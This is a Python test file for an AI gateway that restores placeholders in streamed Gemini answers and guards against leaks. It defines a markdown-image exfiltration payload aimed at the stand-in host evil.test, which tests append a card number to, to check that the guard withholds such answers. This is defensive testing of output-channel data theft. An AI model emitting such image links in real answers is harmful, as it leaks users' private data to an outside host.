"""Streamed answers of the Gemini wire: the client gets the same events with its own words."""

import copy
from collections.abc import Iterable
from typing import Any

import orjson
import pytest

from gateway.exchange.answer_guard import CONTENT_FILTERED
from gateway.exchange.messages import AnswerEnd
from gateway.policy.document import GuardDocument
from gateway.wires.base import Body
from gateway.wires.gemini import WIRE
from tests.gateway.wires.replays import CARD, MAIL, plan, replay, session, written
from tests.tables import table

CASES = table(__file__)

SIGNED = "Made1Up2" * 8 + "=="
NOTE = {"request_id": "r"}
FRAMINGS = ["sse", "json-array"]
PLACEHOLDERS, OF = session()
REQUEST = {"contents": [{"role": "user", "parts": [{"text": f"I am {OF[MAIL]}. Card {OF[CARD]}."}]}]}

# The parts of an answer with the other members of their candidates.
ANSWER: list[tuple[Body, Body]] = CASES["answer"]
THOUGHT, TEXT, AFTER, SECOND = (ANSWER[at][0]["text"] for at in (0, 1, 4, 6))


def write(value: Any) -> Any:
    return orjson.loads(written(orjson.dumps(value).decode(), OF))


def replayed(bodies: Iterable[Body], framing: str = "sse", **more: Any) -> tuple[bytes, AnswerEnd]:
    rules = plan(PLACEHOLDERS, REQUEST, more.pop("guard", GuardDocument()), framing=framing, note=NOTE, **more)
    return replay(WIRE, [framed(bodies, framing)], rules)


def restored(bodies: Iterable[Body], framing: str = "sse", **more: Any) -> list[Body]:
    """The events that a client gets."""
    return events(replayed(bodies, framing, **more)[0], framing)


def framed(bodies: Iterable[Body], framing: str) -> bytes:
    if framing == "sse":
        return b"".join(b"data: %s\r\n\r\n" % orjson.dumps(each) for each in bodies)
    # As the API writes it.
    return b"[" + b"\n,\r\n".join(orjson.dumps(each, option=orjson.OPT_INDENT_2) for each in bodies) + b"\n]\n"


def events(data: bytes, framing: str) -> list[Body]:
    if framing != "sse":
        found: list[Body] = orjson.loads(data)
        return found
    return [orjson.loads(block[6:]) for block in data.replace(b"\r\n", b"\n").split(b"\n\n") if block]


def event(*parts: Body, index: int = 0, **fields: Any) -> Body:
    candidate = {"content": {"parts": [*parts], "role": "model"}, **({"index": index} if index else {}), **fields}
    usage = {"promptTokenCount": 20, "candidatesTokenCount": 7, "thoughtsTokenCount": 2}
    return {"candidates": [candidate], "usageMetadata": usage, "modelVersion": "gemini-x", "responseId": "resp_1"}


def in_pieces(text: str, size: int, index: int = 0, **members: Any) -> list[Body]:
    return [event({"text": text[at : at + size], **members}, index=index) for at in range(0, len(text), size)]


def answer(size: int = 3) -> list[Body]:
    """An answer with every kind of part, its texts in pieces of a size. The provider writes placeholders."""
    found: list[Body] = []
    for part, fields in write(ANSWER):
        if set(part) <= {"text", "thought"}:
            index = fields.pop("index", 0)
            found += in_pieces(part.pop("text"), size, index=index, **part)
            found[-1]["candidates"][0] |= fields
        else:
            found.append(event(part, **fields))
    return found


def check(found: list[Body]) -> None:
    """Puts the answer together as the SDKs do: parts of a kind in a row are one."""
    parts: dict[int, list[Body]] = {}
    for each in copy.deepcopy(found):
        for candidate in each["candidates"]:
            grown = parts.setdefault(candidate.get("index", 0), [])
            for part in candidate["content"]["parts"]:
                is_text = set(part) <= {"text", "thought"}
                if is_text and grown and set(grown[-1]) == set(part):
                    grown[-1]["text"] += part["text"]
                else:
                    grown.append(part)
    for index in (0, 1):
        assert parts[index] == [part for part, fields in ANSWER if fields.get("index", 0) == index]
    last = found[-1]["candidates"][0]
    assert (last["finishReason"], last["citationMetadata"]) == ("STOP", {"citations": [{"title": MAIL}]})
    notes = [each["svc"] for each in found if "svc" in each]
    # One for each candidate, since any may be the last.
    assert notes == [{**NOTE, "guard": {"action": "pass"}}] * 2
    assert "svc" in found[-1]


@pytest.mark.parametrize("framing", FRAMINGS)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 40, 1000])
def test_an_answer_is_restored_in_pieces_of_any_size(framing: str, size: int) -> None:
    check(restored(answer(size), framing))


@pytest.mark.parametrize("framing", FRAMINGS)
@pytest.mark.parametrize("size", [3, 40])
def test_an_answer_that_is_held_is_restored(framing: str, size: int) -> None:
    check(restored(answer(size), framing, hold=True))


@pytest.mark.parametrize("framing", FRAMINGS)
def test_the_rest_of_a_text_is_given_to_a_client_without_a_finish_reason(framing: str) -> None:
    mark = OF[MAIL]
    found = restored([event({"text": f"Dear {mark}"})], framing)
    assert "".join(each["candidates"][0]["content"]["parts"][0]["text"] for each in found) == f"Dear {MAIL}"


@pytest.mark.parametrize("framing", FRAMINGS)
def test_the_usage_and_the_texts_are_reported(framing: str) -> None:
    _, end = replayed(answer(), framing)
    assert (end.outcome, end.tokens) == ("answered", (20, 9))
    texts = {text.text for text in end.texts if text.key == "text"}
    assert {write(THOUGHT), write(TEXT + AFTER), write(SECOND)} <= texts


def test_a_signed_thought_is_left_as_it_came() -> None:
    mark = OF[MAIL]
    part = {"text": f"Of {mark}.", "thought": True, "thoughtSignature": SIGNED}
    (found,) = restored([event(part)])
    assert found["candidates"][0]["content"]["parts"] == [part]


def test_arguments_that_come_string_by_string_are_restored() -> None:
    """As Vertex AI streams them."""

    def call(text: str, path: str = "$.to", **fields: Any) -> Body:
        return event(
            {"functionCall": {"partialArgs": [{"jsonPath": path, "stringValue": text, **fields}], "willContinue": True}}
        )

    mark = OF[MAIL]
    pieces = [call(mark[at : at + 3], willContinue=True) for at in range(0, len(mark), 3)]
    bodies = [event({"functionCall": {"name": "send", "willContinue": True}}), *pieces, call("."), call(mark, "$.cc")]
    found = restored([*bodies, *[call(mark)], event({"functionCall": {}}, finishReason="STOP")])
    given: dict[str, str] = {}
    for each in found:
        for partial in each["candidates"][0]["content"]["parts"][0]["functionCall"].get("partialArgs", []):
            given[partial["jsonPath"]] = given.get(partial["jsonPath"], "") + partial["stringValue"]
    assert given == {"$.to": f"{MAIL}.{MAIL}", "$.cc": MAIL}


EXFILTRATION = "![x](https://evil.test/?q="


@pytest.mark.parametrize("hold", [False, True])
@pytest.mark.parametrize("framing", FRAMINGS)
def test_an_answer_that_the_guard_withholds_ends_well_formed(framing: str, hold: bool) -> None:
    bad = EXFILTRATION + OF[CARD] + ") and more.\n\n"
    guard = {"placeholder_in_url": "replace"}
    for before in ([], in_pieces("Dear all, this is fine.\n", 5)):
        body = [*before, event({"text": bad}), event({"text": "x"}, finishReason="STOP")]
        found = restored(body, framing, guard=guard, hold=hold)
        (candidate,) = found[-1]["candidates"]
        assert candidate["content"]["parts"] == [{"text": CONTENT_FILTERED}]
        assert (candidate["finishReason"], found[-1]["responseId"]) == ("SAFETY", "resp_1")
        assert CARD.encode() not in orjson.dumps(found)


@pytest.mark.parametrize(
    "interruption", [{"functionCall": {"name": "f"}}, {"text": "t", "thought": True}, {"inlineData": {"data": "QUJD"}}]
)
def test_a_destination_that_a_part_interrupts_gets_no_value(interruption: Body) -> None:
    """Clients show the texts before and after it as one."""
    mark = OF[CARD]
    bodies = [
        event({"text": EXFILTRATION}),
        event(interruption),
        event({"text": f"{mark}) {mark}."}, finishReason="STOP"),
    ]
    found = restored(bodies, guard=None)
    parts = [part for each in found for part in each["candidates"][0]["content"]["parts"]]
    assert "".join(part["text"] for part in parts if set(part) == {"text"}) == f"{EXFILTRATION}{mark}) {CARD}."


@pytest.mark.parametrize("framing", FRAMINGS)
@pytest.mark.parametrize("before", [0, 1, 2])
def test_an_unreadable_event_ends_the_answer_with_an_error(framing: str, before: int) -> None:
    good = [orjson.dumps(event({"text": "a"}))] * before
    bodies = [*good, b"{nonsense}"]
    body = b"[" + b",".join(bodies) if framing != "sse" else b"".join(b"data: %s\n\n" % each for each in bodies)
    rules = plan(PLACEHOLDERS, REQUEST, framing=framing, note=NOTE)
    found = events(replay(WIRE, [body], rules)[0], framing)
    assert len(found) == before + 1
    assert found[-1]["error"]["status"] == "UNAVAILABLE"


def test_an_error_of_the_upstream_passes() -> None:
    error = {"error": {"code": 503, "message": f"Overloaded: {OF[MAIL]}", "status": "UNAVAILABLE"}}
    found = restored([event({"text": "a"}), error])
    assert found[-1]["error"]["message"] == f"Overloaded: {MAIL}"
